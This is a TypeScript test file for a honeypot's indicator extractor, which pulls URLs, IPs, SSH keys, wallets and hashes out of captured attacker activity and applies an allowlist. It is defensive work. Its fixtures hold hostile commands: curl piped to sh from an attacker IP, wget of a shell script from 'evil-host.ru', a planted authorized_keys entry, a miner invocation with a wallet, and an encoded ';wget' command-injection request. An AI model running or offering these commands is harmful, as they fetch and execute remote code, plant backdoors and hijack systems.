import type { CerberusEvent, EventData } from '@cerberusmesh/contracts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isPublicAddress } from '../../artefacts/public-address.ts';
import { createAllowlist } from './allowlist.ts';
import { findIndicators } from './find-indicators.ts';
import { normaliseIndicator } from './normalise.ts';

const KEY = `ssh-rsa AAAA${'B'.repeat(60)}=`;

function event<Kind extends CerberusEvent['kind']>(
  kind: Kind,
  data: Extract<CerberusEvent, { kind: Kind }>['data'],
): CerberusEvent {
  const made = {
    id: '01990000-0000-7000-8000-000000000001',
    at: '2026-05-01T10:00:00.000Z',
    sensorId: 'edge',
    trap: 'ssh',
    sessionId: '01990000-0000-7000-8000-0000000000aa',
    source: { address: '45.9.148.99', port: 4_000 },
    destination: { address: '51.15.1.1', port: 22 },
    protocol: 'ssh',
    kind,
    data,
  };
  // reason: the pair of kind and data is typed by the parameters; a generic pair does not narrow to the union.
  return made as CerberusEvent;
}
const values = (given: CerberusEvent) => findIndicators(given).map(({ type, value }) => `${type} ${value}`);
const command = (input: string) => event('command.entered', { input, channel: 'exec' });

describe('what a command shows', () => {
  it('are places, their hosts, planted keys and wallets, each once', () => {
    const wallet = `4${'8'.repeat(1)}${'A'.repeat(93)}`;
    expect(
      values(
        command(
          `cd /tmp; wget http://Evil-Host.ru/x.sh; curl -O http://evil-host.ru/x.sh; curl http://45.9.148.99:8080/m|sh;
           echo "${KEY} me@host" >> .ssh/authorized_keys; ./m -u ${wallet} -o 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2`,
        ),
      ),
    ).toEqual([
      'url http://evil-host.ru/x.sh',
      'domain evil-host.ru',
      'url http://45.9.148.99:8080/m',
      'ipv4 45.9.148.99',
      `ssh-key ${KEY}`,
      `wallet ${wallet}`,
      'wallet 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2',
    ]);
  });

  it('is nothing where a wallet, key or address is not whole', () => {
    expect(values(command('echo 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3 ssh-rsa AAAAshort http:// 12345'))).toEqual([]);
  });

  it('stays within its limits whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400, unit: 'binary' }), (input) => {
        for (const { type, value } of findIndicators(command(input)))
          expect(normaliseIndicator(type, value)).toEqual({ type, value });
      }),
      { numRuns: 50 },
    );
    const many = Array.from({ length: 500 }, (_, at) => `http://host-${at}.ru/`).join(' ');
    expect(values(command(many))).toHaveLength(50);
  });
});

describe('what other events show', () => {
  it('are the source of a session that scored, files, and commands inside of exploits', () => {
    const scored = {
      score: 0.7,
      level: 4,
      stage: 'execution',
      contributions: [],
      scoringVersion: '1',
    } satisfies EventData<'session.scored'>;
    expect(values(event('session.scored', scored))).toEqual(['ipv4 45.9.148.99']);
    expect(values(event('session.scored', { ...scored, level: 1 }))).toEqual([]);
    const sha256 = 'ab'.repeat(32);
    expect(values(event('file.uploaded', { path: '/tmp/x', sha256, bytes: 3, via: 'sftp' }))).toEqual([
      `sha256 ${sha256}`,
    ]);
    const request = {
      method: 'GET',
      httpVersion: '1.1',
      headers: [],
      bodyBytes: 0,
      bodySha256: null,
      rule: 'x',
      status: 200,
    };
    const exploit = '/cgi-bin/x?a=%3Bwget+http%3A%2F%2F45.9.148.99%2Fbins.sh%3B';
    expect(values(event('http.requested', { ...request, target: exploit }))).toEqual([
      'url http://45.9.148.99/bins.sh',
      'ipv4 45.9.148.99',
    ]);
    expect(values(event('http.requested', { ...request, target: 'http://victim-site.ru/' }))).toEqual([]);
  });
});

describe('what is never an indicator', () => {
  const allowlist = createAllowlist({
    entries: ['45.9.0.0/16', 'ours.ru'],
    isPublicAddress,
    ownAddresses: () => ['51.15.1.9'],
  });
  it.each([
    ['ipv4', '10.0.0.1', 'not-public'],
    ['ipv4', '198.51.100.7', 'not-public'],
    ['ipv6', '::ffff:10.0.0.1', 'not-public'],
    ['ipv4', '51.15.1.9', 'own'],
    ['ipv4', '51.15.1.1', 'own'],
    ['ipv4', '45.9.148.99', 'allowlisted'],
    ['ipv4', '8.8.8.8', 'common-service'],
    ['ipv4', '185.220.101.4', null],
    ['domain', 'www.ours.ru', 'allowlisted'],
    ['domain', 'notours.ru', null],
    ['domain', 'raw.githubusercontent.com', 'shared-host'],
    ['url', 'https://raw.githubusercontent.com/a/b/x.sh', null],
    ['url', 'https://github.com/', 'shared-host'],
    ['url', 'http://archive.ubuntu.com/ubuntu/x.deb', 'common-service'],
    ['url', 'http://192.168.0.1/x', 'not-public'],
    ['url', 'http://[::1]/x', 'not-public'],
    ['url', 'http://2130706433/x', 'not-public'],
    ['sha256', 'ab'.repeat(32), null],
  ] as const)('%s %s is %s', (type, value, expected) => {
    const normal = normaliseIndicator(type, value) ?? { type, value };
    expect(allowlist.whyHarmless(normal, '51.15.1.1')).toBe(expected);
  });
});

describe('the one form of a value', () => {
  it.each([
    ['ip', '2001:DB8:0:0::1', 'ipv6 2001:db8::1'],
    ['file', 'AB'.repeat(16), `md5 ${'ab'.repeat(16)}`],
    ['domain', 'BÜCHER.de.', 'domain xn--bcher-kva.de'],
    ['url', 'HTTP://u:p@Host.RU:80/a b#c', 'url http://host.ru/a%20b'],
    ['email', 'Me@Host.RU', 'email me@host.ru'],
    ['ssh-key', `${KEY} comment of\tme`, null],
    ['ssh-key', `${KEY} comment`, `ssh-key ${KEY}`],
    ['domain', 'localhost', null],
    ['domain', 'evil.example', null],
    ['url', 'javascript:alert(1)', null],
    ['url', 'http://a\nb.ru/', null],
    ['ip', '1.2.3', null],
    ['wallet', 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq', 'wallet bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
  ] as const)('of %s %s', (type, text, expected) => {
    const found = normaliseIndicator(type, text);
    expect(found === null ? null : `${found.type} ${found.value}`).toBe(expected);
  });
});
